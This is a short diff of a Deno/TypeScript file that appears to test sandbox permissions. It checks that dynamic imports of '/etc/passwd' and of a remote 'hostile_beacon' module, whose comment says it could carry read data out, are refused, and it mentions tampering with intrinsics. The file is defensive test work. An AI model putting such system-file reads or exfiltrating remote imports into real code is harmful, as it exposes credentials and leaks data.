@@ -50,7 +50,9 @@ const viaLoader = (p: Promise<{ default?: unknown }>) =>
     (e) => /Requires (read|import) access/.test((e as Error).message) ? "refused" : `failed ${(e as Error).name}`,
   );
 const importPasswd = await viaLoader(import("/etc/passwd", { with: { type: "text" } }));
-const importRemote = await viaLoader(import("https://deno.land/x/iommu_relay_hostile_beacon/mod.ts"));
+// A beacon on a host Deno lets import by default: a variable, as the URL would carry what was read.
+const beacon = "https://deno.land/x/iommu_relay_hostile_beacon/mod.ts";
+const importRemote = await viaLoader(import(beacon));
 
 // Tampered intrinsics: in the host's realm these would see (and could change) the relay's own maps and arrays.
 let intercepted = 0;
